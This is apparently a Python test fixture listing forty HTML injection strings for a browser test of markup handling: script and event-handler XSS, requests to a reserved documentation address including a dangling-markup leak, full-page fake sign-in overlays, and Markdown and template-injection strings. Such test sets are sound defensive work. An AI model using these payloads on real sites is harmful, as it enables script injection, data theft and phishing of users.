"""Forty strings that run a script, ask another machine or cover the page wherever they are taken for markup.

FAR is an address reserved for documentation: nothing answers there. Each string does its harm by itself in an empty page,
which the control in tests/browser/test_markup_attacks.py shows for every one of them.
"""

FAR = "http://192.0.2.1"
_RUN = "window.pwned=1"
_COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh"

MARKUP: dict[str, str] = {
    # scripts
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<SCRIPT >{_RUN}</SCRIPT\n>",
    "script of type module": f"<script type=module>{_RUN}</script>",
    "script with a strange end": f"<script>{_RUN}//</script x=>",
    "script that closes an attribute": f"'\"><script>{_RUN}</script>",
    "script that closes a text box": f"</textarea></pre></title><script>{_RUN}</script>",
    "script that closes a comment": f"<!-- --!><script>{_RUN}</script>-->",
    "script inside a drawing": f"<svg><script>{_RUN}</script></svg>",
    "image that fails": f"<img src=x: onerror={_RUN}>",
    "image with slashes for spaces": f"<img/src='x:'/onerror={_RUN}>",
    "image with a coded handler": "<img src=x: onerror=&#119;indow&#x2e;pwned&#61;1>",
    "image with line breaks": f"<img\nsrc=x:\nonerror\n=\n{_RUN}\n>",
    "drawing that loads": f"<svg onload={_RUN}></svg>",
    "drawing that begins to move": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "script that fails": f"<script src=x: onerror={_RUN}></script>",
    "style sheet that fails": f"<link rel=stylesheet href=x: onerror={_RUN}>",
    "box that takes the focus": f"<input autofocus onfocus={_RUN}>",
    "list that takes the focus": f"<select autofocus onfocus={_RUN}></select>",
    "fold that opens": f"<details open ontoggle={_RUN}><summary>x</summary>y</details>",
    "video without a source": f"<video><source src=x: onerror={_RUN}></video>",
    "sound without a source": f"<audio src=x: onerror={_RUN}></audio>",
    "style that starts a handler": f"<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={_RUN}>x</b>",
    "frame with a document": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "frame with a script address": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    # requests
    "image elsewhere": f"<img src={FAR}/1.png>",
    "image left open, to carry off what follows": f'<img src="{FAR}/?what=',
    "image for fine screens": f"<img srcset='{FAR}/2.png 1x'>",
    "image in a drawing": f"<svg width=9 height=9><image href='{FAR}/3.png' width=9 height=9></image></svg>",
    "image as a button": f"<input type=image src={FAR}/4.png>",
    "background of a table": f"<table background={FAR}/5.png><tr><td>x</td></tr></table>",
    "background in a style": f"<div style='background:url({FAR}/6.png)'>x</div>",
    "style sheet elsewhere": f"<link rel=stylesheet href={FAR}/7.css>",
    "style sheet taken in": f"<style>@import url({FAR}/8.css);</style>",
    "frame elsewhere": f"<iframe src={FAR}/9></iframe>",
    "poster of a video": f"<video poster={FAR}/10.png></video>",
    "another page after a moment": f"<meta http-equiv=refresh content='0;url={FAR}/11'>",
    # covers
    "cover": f"<div style='{_COVER}'>The session has ended. Sign in.</div>",
    "dialogue as a cover": f"<dialog open style='{_COVER};max-width:none;max-height:none'>Sign in.</dialog>",
    "page hidden by a style": "<style>body{display:none!important}</style>",
    "text pushed over the page": "<p style='position:absolute;top:0;left:0;font-size:60vh;line-height:1'>XXXX XXXX</p>",
}  # fmt: skip
# Only a reader of Markdown or a maker of templates would act on these.
TEMPLATES = (
    f"![x]({FAR}/12.png)",
    "[x](javascript:window.pwned=1)",
    f"<{FAR}/13>",
    "${window.pwned=1}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{% raw %}{{ 7 * 7 }}",
)
